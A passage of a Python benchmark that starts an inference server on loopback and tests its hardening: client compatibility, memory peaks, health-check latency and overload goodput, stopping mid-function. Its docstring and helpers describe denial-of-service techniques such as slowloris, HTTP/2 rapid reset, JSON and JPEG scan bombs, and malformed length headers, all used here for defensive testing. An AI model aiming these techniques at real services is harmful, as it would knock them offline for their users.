"""The service-hardening goals (issue 14), measured together on loopback against a server subprocess.

    python benchmarks/service_hardening.py                       # the embedded ladder; a few minutes
    python benchmarks/service_hardening.py --json out.json       # also write every figure
    python benchmarks/service_hardening.py --server-root DIR     # serve from another checkout (e.g. `git archive`)
    python benchmarks/service_hardening.py --only a,d            # some sections only

The server is ``python -m splitinfer serve`` in a subprocess (so a crash shows), on free loopback ports, with one
torch thread and ``SPLITINFER_LOG_LEVEL=WARNING``. To fit its time budget the benchmark sets REST header and body
read timeouts of 5 and 8 s (``SPLITINFER_REST_HEADER_TIMEOUT_S``, ``SPLITINFER_REST_BODY_TIMEOUT_S``; a server
without those settings ignores them); everything else is the server's default, ``--capacity`` and ``--server-env``
aside. The settings used are printed first.

(a) tritonclient 2.73, unmodified: ``tritonclient.http`` and ``tritonclient.grpc`` ``infer`` with default calls
    (one BYTES input set from numpy, binary by default, no outputs named), then with outputs named (binary and
    JSON); each answer's ``topk_index`` against the native gRPC answer for the same bitstream. Goal: both work.
(b) The adversarial list (``rest_cases``, ``grpc_cases``, three slow-loris connections): counts answers that are
    5xx (HTTP >= 500; gRPC INTERNAL, UNKNOWN, DATA_LOSS), and reports connections dropped without an answer,
    slow connections held past the read timeouts, and server deaths. Goal: 0 5xx.
(c) Peak server RSS for each upload within the limits (extreme aspect ratios such as the issue's 1x20000 PNG,
    large squares under the pixel limit, a gzip-compressed gRPC message), from ``/proc/PID/status``: VmHWM, reset
    through ``/proc/PID/clear_refs`` before each upload, and VmRSS sampled every 10 ms, after the server has gone
    idle again; each upload on a clean server (restarted when an earlier one left it more than 30 MB larger than
    after its start and one small upload: allocator caches would hide the next upload's cost). A server that
    passes ``--rss-cap-mb`` over its baseline is killed (this machine is shared) and
    restarted; the figure is then ">= cap". Goal: <= +300 MB.
(d) ``grpc.health.v1.Health/Check`` latency (20 checks, 1 s deadline each) while 100 ``InferStream`` calls that
    send nothing are open (10 channels x 10 streams). Goal: <= 100 ms for the worst check.
(e) Overload: C = ``--capacity`` closed-loop clients (default: the server's own ``max_concurrent_requests``),
    then 4C, alternated ``--repeats`` times, through gRPC and then REST (asyncio, one process, light raw-HTTP clients); each request has a
    ``--deadline``, and a refused client backs off for the server's retry hint (Retry-After,
    ``splitinfer-retry-after-ms``) up to ``--max-backoff``, or ``--backoff`` without one. Figures, from the 4C run:
    of the requests not served, the share refused (429 / 503 / RESOURCE_EXHAUSTED) within 50 ms (goal >= 99%);
    goodput (answers per second) at 4C over goodput at C (goal >= 0.9). The clients' own event-loop lag is
    printed beside them (a large lag would mean client-bound latencies).

(f) Issue 24, one server subprocess with an API key (``SPLITINFER_API_KEYS``):
    f1: the progressive-JPEG scan bomb (grey 6000x6000, one AC scan repeated 20,000 times, 1.3 MB) on
        ``infer-image``: the server's CPU-seconds (``/proc/PID/stat``) and the answer time; then the costliest scan
        count the limits accept (``max_jpeg_scans``, ``max_jpeg_scan_pixels``) on the same image. Goal: <= 2 CPU-s.
    f2: 100 connections without an API key, each sending the headers of a 10 MiB ``infer-image`` body and the body
        but its last byte, held for 3 s: the server's peak RSS over its baseline. Goal: <= +50 MB.
    f3: 8 JSON bombs at once on ``/infer`` (``data`` of 3.5 million ``{}``, 10 MiB; and the largest that fits the
        route's body limit): the peak RSS. Goal: <= +200 MB.
    The server keeps answering ``/v2/health/live`` after each (checked).
(g) Issue 24, the gRPC and admission cases (on the main server):
    g1: HTTP/2 rapid reset: ``--g-attackers`` raw HTTP/2 connections (default 2, each its own process) open a stream
        with HEADERS for ``Infer`` and reset it at once (RST_STREAM CANCEL), in batches of 200, as fast as they can
        for ``--g-seconds``; meanwhile one legitimate client calls ``Infer`` every 0.5 s (5 s deadline) on its own
        connection. Figures: the legitimate calls that succeeded, the streams the attackers opened per second, the
        server's CPU-seconds, what the attackers got back (REFUSED_STREAM resets, GOAWAY). Goal: >= 99% succeed.
    g2: goodput of C closed-loop gRPC clients (C = the server's ``max_concurrent_requests``) whose calls have a 2 s
        deadline against the same clients with a 30 s deadline, alternated ``--repeats`` times (refused clients wait
        the server's retry hint, as in (e)). Goal: >= 0.9.
    g3: goodput of 4C clients that retry 10 ms after a refusal, whatever the server's hint, against C clients
        (30 s deadlines), gRPC and REST, alternated ``--repeats`` times. Goal: >= 0.85.
(h) Issue 24, slow clients on the main server:
    h1: ``--h-connections`` (default 1,050) slow-loris connections (their own process) each send a request line and
        a header line every 2 s, never the end of the headers, and open again at once when the server cuts them;
        meanwhile a prober checks ``/v2/health/live`` and ``/v2/health/ready`` (a new connection each, as a kubelet
        does) and ``grpc.health.v1.Health/Check`` once a second for ``--h-seconds`` (default 30), each with a
        ``--h-probe-timeout`` (default 2 s). Figures: probes answered / 503 / failed, the slow connections open.
        Goal: every probe answered. RLIMIT_NOFILE is raised to its hard limit first (the server inherits it).
    h2: ``--h-trickles`` (default 16) streams (InferStream and ModelStreamInfer) each send a frame that parses but
        is refused (a garbage bitstream: an error answer) every ``--h-trickle-s`` (default 20) s; then 15 legitimate
        streams (InferStream, ModelStreamInfer, Health/Watch, 5 each) try to open for ``--h-window`` (default 75) s,
        retrying after the server's hint (at most 1 s); admitted = a first answer that is not an error. Two runs:
        the attacking streams held as long as the server lets them (the issue's), then re-opened at once when cut
        (a determined attacker, refusals retried after 0.1 s). Goal: all 15 admitted.

Today's figure is printed next to each goal. A section that cannot run (a server that does not start, a client
library that fails) is reported, not raised; a non-zero exit status means only that the server did not start.
"""

from __future__ import annotations

import argparse
import asyncio
import ast
import base64
import contextlib
import io
import json
import os
import platform
import signal
import socket
import struct
import subprocess
import sys
import threading
import time
import traceback
import zlib
from pathlib import Path
from typing import Any, Callable, Dict, List, Optional, Sequence, Tuple

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent
for _p in (str(ROOT), str(HERE)):
    if _p not in sys.path:
        sys.path.insert(0, _p)

import fuzz_soak as fz  # noqa: E402  (server subprocess, senders, message encoding, git state)

GRPC_5XX = {"INTERNAL", "UNKNOWN", "DATA_LOSS"}
GOALS = {
    "a": "tritonclient http/grpc default infer: both work, unmodified",
    "b": "5xx over every abuse case of the adversarial list: 0",
    "c": "peak RSS for any single upload within the limits: <= +300 MB",
    "d": "Health/Check latency while 100 idle streams are open: <= 100 ms",
    "e1": "overload (4x capacity): share of refused requests answered within 50 ms: >= 99%",
    "e2": "goodput under 4x overload against goodput at capacity: >= 0.9",
    "f1": "CPU-seconds one upload can cost (progressive-JPEG scan bomb, and the most scans accepted): <= 2",
    "f2": "RSS added by 100 unauthenticated held 10 MiB bodies (API keys on): <= +50 MB",
    "f3": "RSS added by 8 concurrent JSON bombs on /infer: <= +200 MB",
    "g1": "legitimate Infer success during an HTTP/2 rapid reset from 2 connections: >= 99%",
    "g2": "goodput at capacity with 2 s client deadlines, against 30 s deadlines: >= 0.9",
    "g3": "goodput at 4x with clients retrying 10 ms after a refusal, against capacity: >= 0.85",
    "h1": "legitimate health checks (REST live/ready, gRPC Check) answered during a 1,050-connection slowloris: all",
    "h2": "legitimate streams admitted while 16 streams trickle a refused frame every 20 s: all (15 of 15)",
}


def short(e: BaseException, n: int = 240) -> str:
    s = f"{type(e).__name__}: {e}"
    return s if len(s) <= n else s[: n - 3] + "..."


def grpc_code(e) -> str:
    try:
        c = e.code()
        return c.name if c is not None else "UNKNOWN"
    except Exception:  # noqa: BLE001
        return "UNKNOWN"


# ====================================================================================== server with RSS tools
class Server(fz.ServerProcess):
    """The server subprocess (from ``root``, another checkout if asked) plus what the goals need: CPU-idle waits,
    restarts after a death."""

    def ensure(self) -> bool:
        """Restart the server if it is dead; True if it was."""
        if self.alive():
            return False
        with contextlib.suppress(Exception):
            self.log.close()
        self.start()
        return True

    def cpu_s(self) -> Optional[float]:
        try:
            with open(f"/proc/{self.pid}/stat") as f:
                parts = f.read().rsplit(")", 1)[1].split()
            return (int(parts[11]) + int(parts[12])) / os.sysconf("SC_CLK_TCK")
        except (OSError, IndexError, ValueError, TypeError):
            return None

    def wait_idle(self, timeout: float = 30.0, threshold: float = 0.15, window: float = 0.5) -> float:
        """Wait until the server uses under ``threshold`` of a core over ``window`` s; returns the seconds waited."""
        t0 = time.monotonic()
        while time.monotonic() - t0 < timeout and self.alive():
            a = self.cpu_s()
            time.sleep(window)
            b = self.cpu_s()
            if a is None or b is None or (b - a) / window < threshold:
                break
        return time.monotonic() - t0


class PeakRss:
    """Peak RSS of the server around one request: VmHWM (reset first where the kernel allows) and VmRSS sampled
    every 10 ms; the server is killed when it passes ``cap_mb`` over its baseline."""

    def __init__(self, server: Server, cap_mb: float):
        self.server, self.cap_mb = server, cap_mb
        self.killed = False
        self.peak_kb = self.base_kb = 0
        self.hwm_reset = False
        self._stop = threading.Event()
        self._t: Optional[threading.Thread] = None

    def start(self) -> "PeakRss":
        pid = self.server.pid
        self.base_kb = fz.rss_kb(pid) or 0
        try:
            with open(f"/proc/{pid}/clear_refs", "w") as f:
                f.write("5")  # resets VmHWM to the current RSS
            self.hwm_reset = True
        except OSError as e:  # not permitted here: peaks are then sampled from VmRSS (see peak())
            print(f"  note: cannot reset VmHWM of the server ({e}); sampling VmRSS instead", file=sys.stderr)
        self.peak_kb = self.base_kb
        self._t = threading.Thread(target=self._watch, args=(pid,), daemon=True)
        self._t.start()
        return self

    def _watch(self, pid: int) -> None:
        while not self._stop.is_set():
            kb = fz.rss_kb(pid)
            if kb is None:
                return
            self.peak_kb = max(self.peak_kb, kb)
            if (kb - self.base_kb) / 1024 > self.cap_mb:
                self.killed = True
                with contextlib.suppress(OSError):
                    os.kill(pid, signal.SIGKILL)
                return
            time.sleep(0.01)

    def finish(self, idle_timeout: float = 20.0) -> None:
        """After the answer: let the server finish what it still computes (a timed-out request may go on), then
        read the high-water mark."""
        if self.killed:
            with contextlib.suppress(Exception):
                self.server.proc.wait(15)  # reaped, so that the next case restarts it
        elif self.server.alive():
            self.server.wait_idle(timeout=idle_timeout)
            if self.hwm_reset:
                hwm = fz.rss_kb(self.server.pid, "VmHWM")
                if hwm:
                    self.peak_kb = max(self.peak_kb, hwm)
        self.stop()

    def stop(self) -> None:
        self._stop.set()
        if self._t is not None:
            self._t.join(2)

    @property
    def increase_mb(self) -> float:
        return (self.peak_kb - self.base_kb) / 1024


# ====================================================================================== (a) tritonclient
def section_a(server: Server, model: str, msg: bytes, native: Tuple[int, Tuple[int, ...]]) -> Dict[str, Any]:
    import numpy as np

    want = list(native[1])
    out: Dict[str, Any] = {"native_topk": want}

    def check(idx) -> str:
        if idx is None:
            return "no topk_index output"
        got = [int(x) for x in np.asarray(idx).reshape(-1)]
        return "works, equal to native" if got == want else f"works, but topk {got} != native {want}"

    try:
        import tritonclient.http as th

        c = th.InferenceServerClient(f"127.0.0.1:{server.http_port}", network_timeout=30)
        res: Dict[str, str] = {}
        for name, outputs in [("default", None),
                              ("outputs binary", [th.InferRequestedOutput("topk_index", binary_data=True),
                                                  th.InferRequestedOutput("topk_score", binary_data=True)]),
                              ("outputs JSON", [th.InferRequestedOutput("topk_index", binary_data=False)])]:
            try:
                inp = th.InferInput("bitstream", [1], "BYTES")
                inp.set_data_from_numpy(np.array([msg], dtype=np.object_))
                r = c.infer(model, [inp], outputs=outputs)
                res[name] = check(r.as_numpy("topk_index"))
            except Exception as e:  # noqa: BLE001
                res[name] = "ERROR " + short(e)
        with contextlib.suppress(Exception):
            res["is_server_live"] = str(c.is_server_live())
        c.close()
        out["http"] = res
    except Exception as e:  # noqa: BLE001
        out["http"] = {"default": "ERROR " + short(e)}
    try:
        import tritonclient.grpc as tg

        c = tg.InferenceServerClient(f"127.0.0.1:{server.grpc_port}")
        res = {}
        for name, outputs in [("default", None), ("outputs named", [tg.InferRequestedOutput("topk_index")])]:
            try:
                inp = tg.InferInput("bitstream", [1], "BYTES")
                inp.set_data_from_numpy(np.array([msg], dtype=np.object_))
                r = c.infer(model, [inp], outputs=outputs, client_timeout=30)
                res[name] = check(r.as_numpy("topk_index"))
            except Exception as e:  # noqa: BLE001
                res[name] = "ERROR " + short(e)
        with contextlib.suppress(Exception):
            res["is_server_live"] = str(c.is_server_live())
        c.close()
        out["grpc"] = res
    except Exception as e:  # noqa: BLE001
        out["grpc"] = {"default": "ERROR " + short(e)}
    ok = [all(v.startswith("works, equal") for k, v in out[t].items() if k != "is_server_live")
          for t in ("http", "grpc")]
    out["met"] = all(ok)
    out["figure"] = " / ".join(f"{t}: {'works' if good else _first_error(out[t])}"
                               for t, good in zip(("http", "grpc"), ok))
    return out


def _first_error(res: Dict[str, str]) -> str:
    for k, v in res.items():
        if k != "is_server_live" and not v.startswith("works, equal"):
            return f"{k}: {v[:160]}"
    return "?"


# ====================================================================================== (d) idle streams
def section_d(server: Server, model: str, msg: bytes, n_streams: int = 100, samples: int = 20) -> Dict[str, Any]:
    import grpc
    from grpc_health.v1 import health_pb2, health_pb2_grpc

    from shared._proto import splitinfer_pb2 as pb, splitinfer_pb2_grpc as pb_grpc

    hch = grpc.insecure_channel(f"127.0.0.1:{server.grpc_port}")
    health = health_pb2_grpc.HealthStub(hch)
    with contextlib.suppress(grpc.RpcError):
        health.Check(health_pb2.HealthCheckRequest(), timeout=5)  # connected before the streams open
    stop = threading.Event()

    def idle():
        stop.wait()
        return
        yield  # a generator that sends nothing until the end

    channels = [grpc.insecure_channel(f"127.0.0.1:{server.grpc_port}") for _ in range(10)]
    stubs = [pb_grpc.SplitInferenceStub(c) for c in channels]
    calls = [stubs[i % len(stubs)].InferStream(idle(), timeout=300) for i in range(n_streams)]
    time.sleep(2.0)  # every stream reaches the server (and takes a thread there, if it does)
    refused: Dict[str, int] = {}
    for c in calls:
        if c.done():
            code = grpc_code(c) if c.exception() is not None else "OK"
            refused[code] = refused.get(code, 0) + 1
    lat, fails, in_a_row, tried = [], {}, 0, 0
    for _ in range(samples):  # 1 s deadline each; three failures in a row end the series
        t0 = time.perf_counter()
        tried += 1
        try:
            r = health.Check(health_pb2.HealthCheckRequest(), timeout=1.0)
            lat.append(1e3 * (time.perf_counter() - t0))
            in_a_row = 0
            if r.status != health_pb2.HealthCheckResponse.SERVING:
                fails[f"status {r.status}"] = fails.get(f"status {r.status}", 0) + 1
        except grpc.RpcError as e:
            fails[grpc_code(e)] = fails.get(grpc_code(e), 0) + 1
            in_a_row += 1
            if in_a_row >= 3:
                break
        time.sleep(0.05)
    t0 = time.perf_counter()
    try:
        pb_grpc.SplitInferenceStub(hch).Infer(pb.InferRequest(model=model, bitstream=msg), timeout=5)
        infer = {"Infer": "ok", "ms": round(1e3 * (time.perf_counter() - t0), 1)}
    except grpc.RpcError as e:
        infer = {"Infer": grpc_code(e), "ms": round(1e3 * (time.perf_counter() - t0), 1)}
    stop.set()
    for c in calls:
        c.cancel()
    for c in channels:
        c.close()
    hch.close()
    worst = max(lat) if lat and len(lat) == tried else None
    out = {"streams": n_streams, "streams_refused": refused, "checks": tried, "ok": len(lat), "failures": fails,
           "p50_ms": fz.pct(lat, 50) if lat else None, "max_ms": max(lat) if lat else None,
           "infer_while_open": infer}
    out["met"] = worst is not None and worst <= 100 and not fails
    out["figure"] = (f"max {worst:.1f} ms (p50 {fz.pct(lat, 50):.1f})" if worst is not None else
                     f"{tried - len(lat)}/{tried} checks failed ({', '.join(f'{k} x{v}' for k, v in fails.items())}, "
                     f"1 s deadline)")
    if refused:
        out["figure"] += f"; streams refused at once: {refused}"
    out["figure"] += f"; an Infer meanwhile: {infer['Infer']} in {infer['ms']} ms"
    return out


# ====================================================================================== (e) overload
async def _grpc_client(stub, pb, grpc, model, msgs, i, t_end, deadline, backoff, max_backoff, rec):
    k = i
    while time.perf_counter() < t_end:
        data = msgs[k % len(msgs)]
        k += 1
        t0 = time.perf_counter()
        wait = 0.0
        try:
            await stub.Infer(pb.InferRequest(model=model, bitstream=data), timeout=deadline)
            outcome = "ok"
        except grpc.aio.AioRpcError as e:
            code = e.code().name
            if code == "RESOURCE_EXHAUSTED":
                outcome, hint = "refused", None
                for key, v in (e.trailing_metadata() or ()):
                    if key in ("splitinfer-retry-after-ms", "retry-after-ms"):
                        with contextlib.suppress(ValueError):
                            hint = float(v) / 1e3
                wait = min(hint, max_backoff) if hint is not None else backoff
            elif code == "DEADLINE_EXCEEDED":
                outcome = "timeout"
            else:
                outcome, wait = f"error {code}", backoff
        except asyncio.CancelledError:
            return
        t1 = time.perf_counter()
        rec.append((t1, t1 - t0, outcome))
        if wait:
            await asyncio.sleep(wait)


class _AsyncHttp:
    """A minimal HTTP/1.1 keep-alive client on asyncio streams: far lighter than an httpx AsyncClient, so that
    hundreds of them on a 2-core machine measure the server, not the client (measured: httpx's client loop lagged
    1.5 s at 256 clients, this one a few ms)."""

    def __init__(self, port: int):
        self.port = port
        self.reader = self.writer = None

    async def close(self) -> None:
        if self.writer is not None:
            self.writer.close()
            with contextlib.suppress(Exception):
                await self.writer.wait_closed()
        self.reader = self.writer = None

    async def post(self, path: str, content: bytes, headers: Dict[str, str]) -> Tuple[int, Dict[str, str], bytes]:
        if self.writer is None:
            self.reader, self.writer = await asyncio.open_connection("127.0.0.1", self.port)
        head = f"POST {path} HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-length: {len(content)}\r\n" + "".join(
            f"{k}: {v}\r\n" for k, v in headers.items()) + "\r\n"
        self.writer.write(head.encode() + content)
        await self.writer.drain()
        raw = await self.reader.readuntil(b"\r\n\r\n")
        lines = raw.decode("latin-1").split("\r\n")
        status = int(lines[0].split(" ", 2)[1])
        hdrs = {}
        for ln in lines[1:]:
            if ":" in ln:
                k, v = ln.split(":", 1)
                hdrs[k.strip().lower()] = v.strip()
        body = await self.reader.readexactly(int(hdrs.get("content-length", "0")))
        if hdrs.get("connection", "").lower() == "close":
            await self.close()
        return status, hdrs, body


async def _rest_client(port, path, body_fn, msgs, i, t_end, deadline, backoff, max_backoff, rec):
    k = i
    conn = _AsyncHttp(port)
    try:
        while time.perf_counter() < t_end:
            content, headers = body_fn(msgs[k % len(msgs)], f"load-{i}-{k}")
            k += 1
            t0 = time.perf_counter()
            wait = 0.0
            try:
                status, hdrs, _ = await asyncio.wait_for(conn.post(path, content, headers), deadline)
                if status == 200:
                    outcome = "ok"
                elif status in (429, 503):
                    outcome = "refused"
                    # the server's millisecond hint (spread to de-synchronise clients) when it sends one, as the
                    # gRPC path reads it from the trailing metadata; else Retry-After's whole seconds
                    try:
                        hint = (float(hdrs["retry-after-ms"]) / 1e3 if "retry-after-ms" in hdrs
                                else float(hdrs["retry-after"]))
                        wait = min(hint, max_backoff)
                    except (KeyError, ValueError):
                        wait = backoff
                elif status == 504:
                    outcome = "timeout"
                else:
                    outcome, wait = f"error {status}", backoff
            except asyncio.TimeoutError:
                outcome = "timeout"
                await conn.close()  # as a client that gives up does: the server sees the disconnect
            except (OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError, ValueError, IndexError) as e:
                outcome, wait = f"error {type(e).__name__}", backoff
                await conn.close()
            t1 = time.perf_counter()
            rec.append((t1, t1 - t0, outcome))
            if wait:
                await asyncio.sleep(wait)
    except asyncio.CancelledError:
        return  # the run's end cancels every client: a normal stop, the records so far stand
    finally:
        await conn.close()


async def _run_load(front: str, server: Server, model: str, msgs: List[bytes], clients: int, warmup: float,
                    duration: float, deadline: float, backoff: float, max_backoff: float, rest_fmt: str):
    rec: List[Tuple[float, float, str]] = []
    t_start = time.perf_counter()
    t_end = t_start + warmup + duration
    lags: List[float] = []

    async def loop_lag():  # how late this client's event loop runs: large lags mean client-bound latencies
        while time.perf_counter() < t_end:
            t0 = time.perf_counter()
            await asyncio.sleep(0.01)
            if t0 >= t_start + warmup:
                lags.append(time.perf_counter() - t0 - 0.01)

    lag_task = asyncio.create_task(loop_lag())
    if front == "grpc":
        import grpc

        from shared._proto import splitinfer_pb2 as pb, splitinfer_pb2_grpc as pb_grpc

        channels = [grpc.aio.insecure_channel(f"127.0.0.1:{server.grpc_port}") for _ in range(min(8, clients))]
        stubs = [pb_grpc.SplitInferenceStub(c) for c in channels]
        tasks = [asyncio.create_task(_grpc_client(stubs[i % len(stubs)], pb, grpc, model, msgs, i, t_end, deadline,
                                                  backoff, max_backoff, rec)) for i in range(clients)]
        try:
            await asyncio.wait(tasks, timeout=warmup + duration + deadline + 10)
        finally:
            for t in tasks:
                t.cancel()
            await asyncio.gather(*tasks, return_exceptions=True)
            for c in channels:
                await c.close()
    else:
        body = fz.REST_FORMATS[rest_fmt]
        tasks = [asyncio.create_task(_rest_client(server.http_port, f"/v2/models/{model}/infer", body, msgs, i, t_end,
                                                  deadline, backoff, max_backoff, rec)) for i in range(clients)]
        try:
            await asyncio.wait(tasks, timeout=warmup + duration + deadline + 10)
        finally:
            for t in tasks:
                t.cancel()
            await asyncio.gather(*tasks, return_exceptions=True)
    lag_task.cancel()
    w0, w1 = t_start + warmup, t_start + warmup + duration
    window = [r for r in rec if w0 <= r[0] <= w1]
    counts: Dict[str, int] = {}
    for _, _, o in window:
        counts[o] = counts.get(o, 0) + 1
    ok = [lat for _, lat, o in window if o == "ok"]
    not_served = [(lat, o) for _, lat, o in window if o != "ok"]
    refused = [lat for lat, o in not_served if o == "refused"]
    fast = sum(1 for lat in refused if lat <= 0.05)
    return {"front": front, "clients": clients, "seconds": duration, "counts": counts,
            "goodput_rps": len(ok) / duration, "ok_p50_ms": 1e3 * fz.pct(ok, 50) if ok else None,
            "ok_p99_ms": 1e3 * fz.pct(ok, 99) if ok else None,
            "not_served": len(not_served), "refused": len(refused), "refused_within_50ms": fast,
            "refused_p50_ms": 1e3 * fz.pct(refused, 50) if refused else None,
            "refused_p99_ms": 1e3 * fz.pct(refused, 99) if refused else None,
            "share_fast_refusals": (fast / len(not_served)) if not_served else None,
            "client_loop_lag_ms": {"p50": 1e3 * fz.pct(lags, 50), "p99": 1e3 * fz.pct(lags, 99),
                                   "max": 1e3 * max(lags, default=float("nan"))}}


def _aggregate(runs: List[Dict[str, Any]]) -> Dict[str, Any]:
    """Several load runs of one kind -> totals: goodput over their summed time, refusal share over their sums."""
    secs = sum(r["seconds"] for r in runs)
    counts: Dict[str, int] = {}
    for r in runs:
        for k, v in r["counts"].items():
            counts[k] = counts.get(k, 0) + v
    not_served = sum(r["not_served"] for r in runs)
    fast = sum(r["refused_within_50ms"] for r in runs)
    return {"runs": len(runs), "seconds": secs, "counts": counts, "goodput_rps": counts.get("ok", 0) / secs,
            "not_served": not_served, "refused": sum(r["refused"] for r in runs), "refused_within_50ms": fast,
            "refused_p50_ms": fz.pct([r["refused_p50_ms"] for r in runs if r["refused_p50_ms"] is not None], 50)
            if any(r["refused_p50_ms"] is not None for r in runs) else None,
            "share_fast_refusals": fast / not_served if not_served else None,
            "goodput_per_run": [round(r["goodput_rps"], 1) for r in runs]}


def section_e(server: Server, model: str, msgs: List[bytes], capacity: int, args, rest_fmt: Optional[str]):
    out: Dict[str, Any] = {"capacity": capacity, "deadline_s": args.deadline, "duration_s": args.duration,
                           "repeats": args.repeats, "backoff_s": args.backoff, "max_backoff_s": args.max_backoff}
    fronts = ["grpc"] + (["rest"] if rest_fmt else [])
    for front in fronts:
        runs: Dict[str, Any] = {"at_capacity": [], "x4": []}
        # C and 4C alternate (C, 4C, C, 4C, ...): a machine whose speed drifts (other work on it) biases neither
        for rep in range(args.repeats):
            for label, clients in (("at_capacity", capacity), ("x4", 4 * capacity)):
                server.ensure()
                server.wait_idle(timeout=30)
                r = asyncio.run(_run_load(front, server, model, msgs, clients, args.warmup, args.duration,
                                          args.deadline, args.backoff, args.max_backoff, rest_fmt or "json"))
                r["busy_after_s"] = round(server.wait_idle(timeout=30), 1)  # work still done for gone clients
                runs[label].append(r)
                print(f"  (e) {front} {label:<11} {clients:>4} clients: goodput {r['goodput_rps']:.1f}/s, "
                      f"{r['counts']}, refused p50/p99 {r['refused_p50_ms'] or 0:.1f}/{r['refused_p99_ms'] or 0:.1f} "
                      f"ms, client loop lag p99 {r['client_loop_lag_ms']['p99']:.1f} ms, server busy "
                      f"{r['busy_after_s']} s after", flush=True)
        agg = {label: _aggregate(rs) for label, rs in runs.items()}
        cap, x4 = agg["at_capacity"], agg["x4"]
        out[front] = {"runs": runs, "at_capacity": cap, "x4": x4,
                      "goodput_ratio": x4["goodput_rps"] / cap["goodput_rps"] if cap["goodput_rps"] else None,
                      "share_fast_refusals": x4["share_fast_refusals"]}
    shares = [out[f]["share_fast_refusals"] for f in fronts]
    ratios = [out[f]["goodput_ratio"] for f in fronts]
    out["met_share"] = len(fronts) == 2 and all(s is not None and s >= 0.99 for s in shares)
    out["met_ratio"] = len(fronts) == 2 and all(r is not None and r >= 0.9 for r in ratios)

    def fmt_share(f):
        s, x4 = out[f]["share_fast_refusals"], out[f]["x4"]
        if s is None:
            return f"{f}: n/a (nothing refused or timed out)"
        return (f"{f}: {100 * s:.1f}% ({x4['refused_within_50ms']}/{x4['not_served']} not served; refused p50 "
                f"{x4['refused_p50_ms'] or 0:.0f} ms; {x4['counts']})")

    out["figure_share"] = f"C={capacity}: " + "; ".join(fmt_share(f) for f in fronts)
    out["figure_ratio"] = f"C={capacity}: " + "; ".join(
        f"{f}: {out[f]['goodput_ratio']:.2f} ({out[f]['x4']['goodput_rps']:.1f} / "
        f"{out[f]['at_capacity']['goodput_rps']:.1f} req/s; runs {out[f]['x4']['goodput_per_run']} / "
        f"{out[f]['at_capacity']['goodput_per_run']})" if out[f]["goodput_ratio"] is not None else f"{f}: n/a"
        for f in fronts)
    if not rest_fmt:
        out["figure_share"] += "; rest: not run (no REST framing accepted)"
    return out


# ====================================================================================== (b)/(c) abuse cases
def raw_http(port: int, parts: Sequence[Any], timeout: float = 10.0) -> Dict[str, Any]:
    """Send ``parts`` (bytes, or a number = sleep that long) on one connection, read one answer.
    -> {"status": int | None, "ms", "closed": closed without an answer, "head": the answer's first bytes}"""
    t0 = time.perf_counter()
    s = socket.create_connection(("127.0.0.1", port), timeout=timeout)
    send_error, buf, closed, read_timed_out = None, b"", False, False
    try:
        for p in parts:
            if isinstance(p, (int, float)) and not isinstance(p, bool):
                time.sleep(p)
                continue
            try:
                s.sendall(p)
            except OSError as e:  # the server answered early and closed (413, 431...): read what it said
                send_error = short(e, 80)
                break
        try:
            while b"\r\n\r\n" not in buf and len(buf) < 1 << 20:
                chunk = s.recv(65536)
                if not chunk:
                    closed = True
                    break
                buf += chunk
        except socket.timeout:  # no more bytes within the timeout: what arrived is the server's whole answer
            read_timed_out = True
        except OSError as e:
            closed = True
            send_error = send_error or short(e, 80)
    finally:
        s.close()
    status = None
    if buf.startswith(b"HTTP/"):
        with contextlib.suppress(ValueError, IndexError):
            status = int(buf.split(b" ", 2)[1])
    return {"status": status, "ms": 1e3 * (time.perf_counter() - t0), "closed": closed and status is None,
            "head": buf[:160].decode("latin-1"), "send_error": send_error,
            "read_timed_out": read_timed_out}


def http_req(method: str, path: str, headers: Dict[str, str], body: Optional[bytes] = b"", host: str = "x") -> bytes:
    h = {"host": host, **headers}
    names = {k.lower() for k in h}
    if body is not None and "content-length" not in names and "transfer-encoding" not in names:
        h["content-length"] = str(len(body))
    lines = [f"{method} {path} HTTP/1.1"] + [f"{k}: {v}" for k, v in h.items()]
    return ("\r\n".join(lines) + "\r\n\r\n").encode("utf-8") + (body or b"")


def png(size: Tuple[int, int], mode: str = "RGB", fmt: str = "PNG", **kw) -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    Image.new(mode, size).save(buf, fmt, **kw)
    return buf.getvalue()


def png_header_only(w: int, h: int) -> bytes:
    """A PNG whose IHDR claims w x h, with one tiny IDAT."""
    def chunk(t: bytes, d: bytes) -> bytes:
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d))

    ihdr = struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(bytes(100))) + chunk(b"IEND", b"")


def multipart(fields: Sequence[Tuple[str, str, bytes]], boundary: str = "splitinferbench") -> Tuple[bytes, str]:
    out = b""
    for name, filename, data in fields:
        disp = f'form-data; name="{name}"' + (f'; filename="{filename}"' if filename else "")
        out += (f"--{boundary}\r\nContent-Disposition: {disp}\r\nContent-Type: application/octet-stream\r\n\r\n"
                .encode() + data + b"\r\n")
    return out + f"--{boundary}--\r\n".encode(), f"multipart/form-data; boundary={boundary}"


def rest_cases(model: str, msg: bytes) -> List[Tuple[str, str, Callable[[], List[Any]], bool]]:
    """(name, kind, make() -> parts for :func:`raw_http`, measure RSS)."""
    infer = f"/v2/models/{model}/infer"
    image = f"/v2/models/{model}/infer-image"
    jh = {"content-type": "application/json"}
    pngh = {"content-type": "image/png"}
    b64 = base64.b64encode(msg).decode()
    valid_input = {"name": "bitstream", "datatype": "BYTES", "shape": [1], "data": [b64]}

    def jreq(body: bytes, path: str = infer, headers: Optional[Dict[str, str]] = None) -> bytes:
        return http_req("POST", path, headers or jh, body)

    def jdoc(extra: bytes = b"", **changes) -> bytes:
        """A valid base64 JSON request, with ``changes`` and raw JSON ``extra`` members added."""
        d = {"inputs": [dict(valid_input)], **changes}
        raw = json.dumps(d).encode()
        return raw[:-1] + b", " + extra + b"}" if extra else raw

    def kserve(prefix: Optional[bytes] = None, header_len: Any = None, size: Any = None) -> bytes:
        blob = (struct.pack("<I", len(msg)) if prefix is None else prefix) + msg
        hdr = json.dumps({"inputs": [{"name": "bitstream", "datatype": "BYTES", "shape": [1],
                                      "parameters": {"binary_data_size": len(blob) if size is None else size}}]})
        hdr = hdr.encode()
        return http_req("POST", infer, {"content-type": "application/octet-stream",
                                        "inference-header-content-length": str(len(hdr) if header_len is None
                                                                               else header_len)}, hdr + blob)

    def form(path: str, fields, cut: int = 0) -> bytes:
